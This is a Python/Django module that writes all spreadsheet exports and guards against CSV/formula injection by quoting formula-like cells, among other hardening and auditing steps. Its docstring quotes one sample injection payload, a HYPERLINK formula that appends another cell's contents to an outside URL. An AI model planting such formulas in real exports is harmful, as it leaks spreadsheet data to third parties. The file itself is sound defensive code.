"""The one way the system writes a spreadsheet (xlsx for Excel, csv for anything else).

Every export goes through `export_response`, which
- writes text that a spreadsheet would read as a formula (a cell beginning with `=`, `+`, `-`,
  `@`, a tab or a carriage return) as plain text: in xlsx the cell is a string with Excel's
  "quote prefix" (the apostrophe that keeps it text even when someone edits the cell), in csv
  the value gets a leading `'` (OWASP's advice for CSV injection). A worker who titles a need
  `=HYPERLINK("http://…"&B1,"点击查看详情")` must not plant a live link in a department's Excel;
- drops the control characters that xlsx cannot hold (openpyxl raises IllegalCharacterError on
  NUL and the other C0 controls except tab, newline and carriage return), so one bad title
  cannot turn the export into a 500 for everyone who can see it;
- writes csv as UTF-8 with a BOM (Chinese Excel reads BOM-less UTF-8 as GBK and shows
  mojibake);
- names the file in RFC 6266 / 5987 form (`filename*=UTF-8''…` beside an ASCII fallback), so a
  Chinese file name arrives intact;
- records the export in the audit trail (who, what, how many rows, which filters).

Scoping stays where it belongs: the caller passes rows read through its scoped selector.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any, Literal
from urllib.parse import quote

from django.http import HttpRequest, HttpResponse

from warmstation.core.audit import audit_record

Format = Literal["xlsx", "csv"]
FORMATS: tuple[Format, ...] = ("xlsx", "csv")
CONTENT_TYPES = {
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "csv": "text/csv; charset=utf-8",
}
# What a spreadsheet program takes for the start of a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The C0 controls xlsx (XML 1.0) cannot hold: all but tab, newline and carriage return — the
# same set as openpyxl's ILLEGAL_CHARACTERS_RE — plus DEL, which no one means in a cell.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
MAX_SHEET_TITLE = 31  # Excel's limit


def clean_text(value: str) -> str:
    """`value` without the control characters a spreadsheet cannot hold."""
    return _ILLEGAL.sub("", value)


def is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_START)


def _plain(value: Any) -> Any:
    """A cell value openpyxl and csv both understand: numbers, dates and text stay themselves,
    None is empty, anything else is its text."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal, datetime, date)):
        return value
    return clean_text(str(value))


def csv_cell(value: Any) -> Any:
    value = _plain(value)
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def write_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> tuple[bytes, int]:
    """The csv bytes (UTF-8 with a BOM) and the number of data rows written."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in header])
    count = 0
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        count += 1
    return ("\ufeff" + buf.getvalue()).encode("utf-8"), count


def write_xlsx(sheet_title: str, header: Sequence[str],
               rows: Iterable[Sequence[Any]]) -> tuple[bytes, int]:
    """The xlsx bytes and the number of data rows written."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(clean_text(sheet_title)[:MAX_SHEET_TITLE] or "Sheet1")

    def cells(values: Sequence[Any]) -> list[Any]:
        out = []
        for raw in values:
            value = _plain(raw)
            if isinstance(value, datetime) and value.tzinfo is not None:
                value = value.replace(tzinfo=None)  # xlsx has no time zones; callers pass local
            cell = WriteOnlyCell(ws, value=value)
            if isinstance(value, str) and is_formula_like(value):
                # openpyxl turns a str beginning with "=" into a formula: make it text again,
                # and mark it so that Excel keeps it text when the cell is edited.
                cell.data_type = "s"
                cell.quotePrefix = True
            out.append(cell)
        return out

    ws.append(cells(header))
    count = 0
    for row in rows:
        ws.append(cells(row))
        count += 1
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue(), count


def content_disposition(filename: str) -> str:
    """`attachment` with an ASCII fallback name and the real (UTF-8) one, RFC 6266 / 5987."""
    filename = clean_text(filename).replace("\r", "").replace("\n", "")
    fallback = "".join(c if c.isascii() and c.isprintable() and c not in '"\\' else "_"
                       for c in filename)
    header = f'attachment; filename="{fallback}"'
    if fallback != filename:
        header += f"; filename*=UTF-8''{quote(filename, safe='')}"
    return header


def export_response(request: HttpRequest, *, fmt: str, filename: str, header: Sequence[str],
                    rows: Iterable[Sequence[Any]], object_type: str, sheet_title: str = "",
                    audit_detail: dict[str, Any] | None = None) -> HttpResponse:
    """The spreadsheet as a download, audited as an `export` of `object_type`.

    `filename` is given without its extension; `fmt` is "xlsx" (anything unknown falls back to
    it) or "csv"."""
    kind: Format = "csv" if fmt == "csv" else "xlsx"
    if kind == "csv":
        data, count = write_csv(header, rows)
    else:
        data, count = write_xlsx(sheet_title or filename, header, rows)
    audit_record("export", actor=request.user, request=request, object_type=object_type,
                 detail={"rows": count, "format": kind, **(audit_detail or {})})
    response = HttpResponse(data, content_type=CONTENT_TYPES[kind])
    response["Content-Disposition"] = content_disposition(f"{filename}.{kind}")
    return response
